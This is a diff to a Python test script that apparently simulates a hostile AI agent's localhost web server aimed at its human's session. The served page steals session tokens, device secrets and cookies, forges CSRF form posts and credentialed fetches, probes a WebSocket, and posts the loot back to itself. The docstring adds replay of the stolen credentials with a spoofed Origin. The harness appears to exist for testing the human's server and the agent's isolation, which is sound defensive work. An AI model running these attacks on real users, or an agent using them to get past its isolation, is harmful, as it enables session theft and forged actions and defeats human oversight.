@@ -1,8 +1,10 @@
 """An agent's own web server on another localhost port, as a program the agent OS user runs:
 it keeps every cookie the human's browser sends it (cookies are not isolated by port), serves
-a page that tries to read the human's session token and device secret, and, when told, replays
-all it collected against the human's server — as a program, not a browser, so it sets whatever
-Origin it likes.
+a page that tries to read the human's session token and device secret and to forge requests
+from the human's browser (CSRF: a form post and a fetch carrying the browser's cookies, and a
+WebSocket — localhost ports are the same site, so SameSite does not stop them), and, when told,
+replays all it collected against the human's server — as a program, not a browser, so it sets
+whatever Origin it likes.
 
     python agent_port_server.py HUMAN_URL ITEM_ID
 
@@ -22,13 +24,29 @@ HUMAN, ITEM = sys.argv[1].rstrip("/"), sys.argv[2]
 cookies: dict[str, str] = {}
 loot: list[dict] = []
 
-PAGE = b"""<!doctype html><title>agent's dev server</title><body>
+PAGE = f"""<!doctype html><title>agent's dev server</title><body>
 <img src="/api/auth/collect" alt=""><img src="/api/items" alt="">
+<iframe name="sink" style="display:none"></iframe>
+<form id="forge" method="post" target="sink" enctype="text/plain"
+      action="{HUMAN}/api/items/{ITEM}/discuss">
+  <input name='{{"message":"forged by the agent page","x":"' value='"}}'></form>
 <script>
-  fetch("/loot", {method: "POST", body: JSON.stringify({
-    token: localStorage.getItem("htrac.token"), device: localStorage.getItem("htrac.device"),
-    cookie: document.cookie})}).then(() => { document.title = "looted"; });
-</script></body>"""
+  const report = {{token: localStorage.getItem("htrac.token"),
+                  device: localStorage.getItem("htrac.device"), cookie: document.cookie}};
+  document.getElementById("forge").submit();
+  fetch("{HUMAN}/api/items/{ITEM}/lock", {{method: "POST", mode: "no-cors",
+        credentials: "include", headers: {{"Content-Type": "text/plain"}},
+        body: '{{"fields":["status"]}}'}}).catch(() => {{}})
+    .then(() => new Promise((resolve) => {{
+      const ws = new WebSocket("{HUMAN.replace("http", "ws", 1)}/ws");
+      ws.onopen = () => ws.send(JSON.stringify({{type: "auth", token: "guessed"}}));
+      ws.onmessage = (e) => resolve("message:" + e.data);
+      ws.onclose = (e) => resolve("closed:" + e.code);
+    }}))
+    .then((ws) => {{ report.websocket = ws;
+      return fetch("/loot", {{method: "POST", body: JSON.stringify(report)}}); }})
+    .then(() => {{ document.title = "looted"; }});
+</script></body>""".encode()
 
 
 class Handler(http.server.BaseHTTPRequestHandler):
